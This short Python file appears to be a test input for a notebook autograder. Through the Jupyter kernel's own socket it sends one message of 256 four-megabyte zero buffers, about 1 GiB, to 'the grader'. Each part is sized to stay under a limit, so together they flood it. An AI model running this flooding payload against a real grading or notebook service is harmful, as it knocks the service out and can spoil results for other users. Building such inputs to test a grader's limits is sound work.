"""Send the grader one message of many large parts through the kernel's own socket.

target: q3-fit_least_squares
keep_reference: true
"""
_kernel = get_ipython().kernel  # noqa: F821
_parts = [b"\0" * (4 * 1024 * 1024)] * 256  # 1 GiB in parts under the limit
_kernel.session.send(_kernel.iopub_socket, "display_data",
                     {"data": {"text/plain": "flood"}, "metadata": {}},
                     parent=_kernel.get_parent(), buffers=_parts)
